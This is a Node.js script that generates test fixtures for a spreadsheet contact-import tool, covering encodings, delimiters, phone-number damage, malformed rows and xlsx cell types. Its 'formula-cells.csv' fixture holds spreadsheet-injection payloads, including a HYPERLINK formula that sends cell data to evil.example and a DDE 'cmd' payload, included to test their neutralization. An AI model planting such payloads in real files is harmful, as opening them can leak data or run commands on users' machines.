#!/usr/bin/env node
// Writes every file in test/fixtures/ (the spreadsheets people really have, and the broken
// ones), so that they can be rebuilt and reviewed: `npm run fixtures`.
// Plain Node ESM on purpose: it runs before any build. Contents are deterministic (zip timestamps are not).
import {mkdirSync, writeFileSync} from 'node:fs';
import {dirname, join} from 'node:path';
import {fileURLToPath} from 'node:url';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';

const root = join(dirname(fileURLToPath(import.meta.url)), '..');
const out = join(root, 'test', 'fixtures');
mkdirSync(out, {recursive: true});

const BOM = '\uFEFF';
const ACS_A = '7d1c4f2e-0b5a-4c3e-9f1a-2b3c4d5e6f70';
const ACS_B = '11111111-2222-4333-8444-555555555555';

function write(name, content) {
  writeFileSync(join(out, name), content);
  console.log(`wrote test/fixtures/${name}`);
}

const crlf = (lines) => lines.join('\r\n') + '\r\n';
const lf = (lines) => lines.join('\n') + '\n';

// --- text files people export ------------------------------------------------------------

// Excel "CSV UTF-8": BOM, CRLF, quotes around values with commas and line breaks.
write(
  'excel-utf8-bom.csv',
  BOM +
    crlf([
      'Employee ID,Full Name,Email,Phone,Notes',
      'E-1001,"Doe, Jane",Jane.Doe@Example.com,(201) 555-0123,"Key at desk,\r\nsecond line"',
      'E-1002,Zoë Ångström,zoe@example.com,+44 20 7946 0958,',
      'E-1003,李小龙,li@example.cn,,"says ""hi"""',
      'E-1004,José Núñez,,201.555.0124,',
    ]),
);

// Google Sheets download: UTF-8 without BOM, LF.
write(
  'google-sheets.csv',
  lf([
    'Name,E-mail,Mobile,ACS System IDs',
    `Ann Lee,ann@example.com,+1 201 555 0125,${ACS_A}`,
    `Ben Ode,BEN@EXAMPLE.COM,,"${ACS_A}; ${ACS_B.toUpperCase()}"`,
    'Cy Twombly,,2015550126,',
  ]),
);

// Excel on a German laptop: Windows-1252, semicolons, decimal commas, national phone numbers.
write(
  'excel-de-1252-semicolon.csv',
  iconv.encode(
    crlf([
      'Personalnummer;Vorname;Nachname;E-Mail;Handy;Gehalt',
      '1001;Jürgen;Müller;juergen.mueller@example.de;0151 12345678;3.100,50',
      '1002;Änne;Groß;aenne@example.de;030 1234567;2.950,00',
      '1003;François;Weiß-Öztürk;f.weiss@example.de;+49 (0)170 1234567;',
    ]),
    'windows-1252',
  ),
);

// A property-management export: a title and a date above the header, semicolons (German Excel),
// a blank row inside the data. The title's comma must not make it a comma file.
write(
  'title-rows.csv',
  '\uFEFF' +
    crlf([
      'Mieterliste Haus A, Stand November 2026',
      'Exportiert am 01.11.2026;;;',
      ';;;',
      'Vorname;Nachname;E-Mail;Telefon',
      'Ada;Lovelace;ada@example.de;030 1234567',
      ';;;',
      'Grace;Hopper;grace@example.de;',
    ]),
);

// Excel's "sep=" hint line, then a semicolon file.
write('excel-sep-line.csv', crlf(['sep=;', 'Name;Email;Phone', 'Smith, Anna;anna@example.com;201-555-0127', 'Brown, Bo;bo@example.com;']));

// Excel "Unicode Text": UTF-16LE with BOM, tab-separated.
write(
  'excel-unicode-text.txt',
  Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    iconv.encode(
      crlf(['Name\tEmail\tPhone', 'Søren Kierkegaard\tsoren@example.dk\t+45 32 12 34 56', 'Ōtani Shōhei\tohtani@example.jp\t', 'Amélie Poulain\t\t+33 6 12 34 56 78']),
      'utf-16le',
    ),
  ]),
);

// UTF-16BE with BOM (some Mac tools).
write(
  'utf16be.csv',
  Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(lf(['Name,Email', 'Björk Guðmundsdóttir,bjork@example.is']), 'utf-16be')]),
);

write('pipe.txt', lf(['Name|Email|Phone', 'Doe, John|john@example.com|201 555 0128', 'Roe, Rita|rita@example.com|']));
write('tabs.tsv', lf(['Name\tEmail', 'Tab "Quoted" Person\ttab@example.com']));

// Excel for Mac, "CSV (Macintosh)": Mac Roman, CR alone between lines, no BOM.
write(
  'excel-mac-roman.csv',
  iconv.encode(
    ['Name,Email,Phone', 'José Müller,jose.mueller@example.com,(201) 555-0160', 'Zoë Ångström,zoe@example.com,', 'François Weiß,,201-555-0161'].join('\r') + '\r',
    'macintosh',
  ),
);

// A Windows-1252 file that is plain ASCII for more than the first 64 KiB.
{
  const lines = ['Name,Email'];
  for (let i = 1; i <= 3000; i++) lines.push(`Person ${String(i).padStart(4, '0')},person${i}@example.com`);
  lines.push('Müller,mueller@example.de');
  write('late-umlaut-1252.csv', iconv.encode(lf(lines), 'windows-1252'));
}

// --- what Excel does to phone numbers (read with --default-country GB) -------------------
write(
  'excel-damage-gb.csv',
  crlf([
    'Name,Email,Phone',
    'Ok National,ok1@example.co.uk,07911 123456',
    'Ok International,ok2@example.co.uk,+44 20 7946 0958',
    'Lost Zero,zero@example.co.uk,7911123457',
    'Scientific,sci@example.co.uk,4.47912E+11',
    'Too Long,long@example.co.uk,4479111234560000',
    'Decimal,dec@example.co.uk,447911123458.0',
    'Double Zero,dz@example.co.uk,0044 7911 123459',
    'Phone Only,,07911 123460',
  ]),
);

// --- rows that break the rules -------------------------------------------------------------
write(
  'invalid-rows.csv',
  lf([
    'Key,Name,Email,Phone,acs_system_ids',
    `k1,Good Row,good@example.com,201-555-0130,${ACS_A}`,
    'k2,Bad Email,john@,201-555-0131,',
    'k3,No At,john.example.com,,',
    'k4,Bad Phone,ok4@example.com,555-1234,',
    'k5,No Contact,,,',
    'k6,Bad ACS,ok6@example.com,,front-door',
    'k7,Space Mail,john smith@example.com,,',
    'k8,Extension,ok8@example.com,+1 201 555 0132 x12,',
    'k9,Invisible,\u200Bzw@example.com\u200B,,',
  ]),
);

// Headers: aliases, first + last, look-alikes that must not be taken.
write(
  'header-aliases.csv',
  lf([
    'Email consent,Employee ID,First Name,Last Name,E-mail,Phone type,Mobile,Department',
    'yes,E-1,Ada,Lovelace,ada@example.com,mobile,201-555-0140,R&D',
    'no,E-2,Grace,,grace@example.com,,,Navy',
  ]),
);
write('no-contact-column.csv', lf(['Name,Email consent,Kontakt', 'Ann,yes,ann@example.com']));

// Cells a spreadsheet would run as a formula (= + - @, a leading tab or carriage return), and
// values that only look like one (plain signed numbers). The results file must neutralize the
// first kind with a leading apostrophe, keep their text, and read them back unchanged. Last, a
// line break on its own (LF, as Google Sheets and Numbers write it) inside a quoted cell: it must
// stay inside its cell in the results file, or Excel splits the row there.
write(
  'formula-cells.csv',
  crlf([
    'Employee ID,Name,Email,Phone,Notes',
    'F-1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",formula1@example.com,+1 201 555 0160,-2+3',
    'F-2,@SUM(A1:A9),formula2@example.com,+12015550161,+15551234567',
    'F-3,Plain Numbers,formula3@example.com,,-3',
    `F-4,"\t=1+2",formula4@example.com,,"=cmd|' /C calc'!A0"`,
    'F-5,Plus Mail,+frank@example.com,,"\r=2+2"',
    'F-6,Formula Mail,=bad@example.com,,',
    'F-7,Two Lines,formula7@example.com,,"line one\nline two"',
  ]),
);

// A results file of an earlier run, fed back in.
write(
  'results-roundtrip.csv',
  BOM +
    crlf([
      'Name,Email,Phone,import_row,import_status,user_identity_id,import_error_code,import_error_message',
      'Ann Lee,ann@example.com,,1,created,6b1e2f64-1c1f-4f65-9d3c-1d8a4c3f0a01,,',
      'Ben Ode,ben@example.com,,2,existing,6b1e2f64-1c1f-4f65-9d3c-1d8a4c3f0a02,,',
      'Cy Twombly,cy@,,3,invalid,,invalid_email,"Column ""Email"" has ""cy@"" which is not an email address."',
      'Di Prince,di@example.com,,4,failed,,server_error,Seam answered 500.',
    ]),
);

// --- broken files ----------------------------------------------------------------------------
write('ragged.csv', lf(['Name,Email', 'Smith, John,john@example.com', 'Ok Person,ok@example.com,,', 'Short']));
write('blank-rows.csv', crlf(['Name,Email', 'First,first@example.com', '', ',', 'Fourth,fourth@example.com', ',,', ' , ']));
write('unclosed-quote.csv', lf(['Name,Email', 'Ann,ann@example.com', '"Ben,ben@example.com', 'Cy,cy@example.com']));
write('empty.csv', '');
write('blank-lines.csv', '\r\n\r\n   \r\n');
write('header-only.csv', crlf(['Name,Email,Phone']));
write('binary.csv', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x01]));
write('old-excel.xls', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]));
write('html-export.xls', '<html><body><table><tr><td>Name</td><td>Email</td></tr></table></body></html>\n');
write(
  'megabyte-field.csv',
  lf(['Name,Notes,Email', `Big Notes,"${'lorem ipsum '.repeat(100_000)}",big@example.com`, 'Next Row,short,next@example.com']),
);

// --- .xlsx -------------------------------------------------------------------------------------
async function workbook() {
  const wb = new ExcelJS.Workbook();
  wb.creator = 'seam-import fixtures';
  wb.created = new Date(Date.UTC(2024, 0, 1));
  wb.modified = wb.created;

  const residents = wb.addWorksheet('Residents');
  residents.addRow(['Resident ID', 'Name', 'Email', 'Phone', 'Move-in', 'Unit', 'Active', 'Balance']);
  // Row 2: a phone stored as a NUMBER (must not become 1.2e10), a date, a padded unit number.
  residents.addRow(['R-001', 'Zoë Ångström', 'zoe@example.com', 12015550123, new Date(Date.UTC(2024, 2, 1)), 7, true, 1234.5]);
  residents.getCell('E2').numFmt = 'yyyy-mm-dd';
  residents.getCell('F2').numFmt = '000';
  // Row 3: numeric id, rich text name, a mailto hyperlink, date-time, formula with a cached number.
  residents.addRow([
    1002,
    {richText: [{text: 'Bob '}, {font: {bold: true}, text: 'Builder'}]},
    {text: 'bob@example.com', hyperlink: 'mailto:bob@example.com'},
    '+44 7911 123456',
    new Date(Date.UTC(2024, 2, 1, 14, 30)),
    {formula: 'F2+1', result: 8},
    false,
    {formula: '1/0', result: {error: '#DIV/0!'}},
  ]);
  residents.getCell('E3').numFmt = 'yyyy-mm-dd hh:mm';
  // Row 4: a formula with a cached text result, a phone number shown through a format with a literal "+1 ".
  residents.addRow(['R-003', 'Carol', {formula: 'LOWER("CAROL@EXAMPLE.COM")', result: 'carol@example.com'}, 2015550124, null, 9, null, null]);
  residents.getCell('D4').numFmt = '"+1 "0';
  // Row 5 left empty on purpose. Row 6: an error cell as the email, a phone Excel stored without its "+".
  residents.getRow(6).values = ['R-006', 'Dan', {error: '#N/A'}, 447911123456];
  // Row 7: a long number in General, an id column with a zero-padded format.
  residents.getRow(7).values = [42, 'Eve', 'eve@example.com', {formula: '12015550000+125', result: 12015550125}];
  residents.getCell('A7').numFmt = '00000';

  const staff = wb.addWorksheet('Staff');
  staff.addRow(['Employee ID', 'First Name', 'Last Name', 'E-mail', 'Mobile']);
  staff.addRow(['S-1', 'Frank', 'Gehry', 'frank@example.com', '201 555 0150']);
  staff.addRow(['S-2', 'Gae', 'Aulenti', 'gae@example.com', null]);
  // A value to the right of the last header: the row is malformed, not silently cut.
  staff.addRow(['S-3', 'Hal', 'Foster', 'hal@example.com', null, 'stray note']);

  return wb;
}

const wb = await workbook();
const xlsx = Buffer.from(await wb.xlsx.writeBuffer());
write('people.xlsx', xlsx);
// The same workbook with the wrong extension: content decides.
write('xlsx-named-csv.csv', xlsx);

{
  const empty = new ExcelJS.Workbook();
  empty.created = new Date(Date.UTC(2024, 0, 1));
  empty.modified = empty.created;
  empty.addWorksheet('Blank');
  write('empty-sheet.xlsx', Buffer.from(await empty.xlsx.writeBuffer()));
}
